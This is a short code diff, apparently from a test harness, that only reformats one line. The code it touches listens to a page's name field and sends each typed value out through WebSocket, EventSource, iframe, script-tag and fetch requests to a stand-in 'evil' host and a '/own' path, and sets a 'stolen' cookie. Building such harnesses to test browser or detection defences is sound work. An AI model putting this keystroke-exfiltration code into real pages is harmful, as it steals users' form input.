@@ -113,7 +113,8 @@ document.querySelector("[name=name]").addEventListener("input", (event) => {
   quiet(() => new WebSocket(`${ws}/ws?d=${v}`));
   quiet(() => new EventSource(`${evil}/events?d=${v}`));
   quiet(() => { const f = document.createElement("iframe"); f.src = `${evil}/frame?d=${v}`; document.body.append(f); });
-  quiet(() => { const s = document.createElement("script"); s.src = `${evil}/${btoa(v)}.js`; document.body.append(s); });
+  quiet(() => { const s = document.createElement("script"); s.src = `${evil}/${btoa(v)}.js`;
+                document.body.append(s); });
   quiet(() => fetch(`/own?d=${btoa(v)}`));
   quiet(() => fetch("/own", {method: "POST", body: v}));
   quiet(() => { document.cookie = "stolen=" + btoa(v) + ";path=/"; });
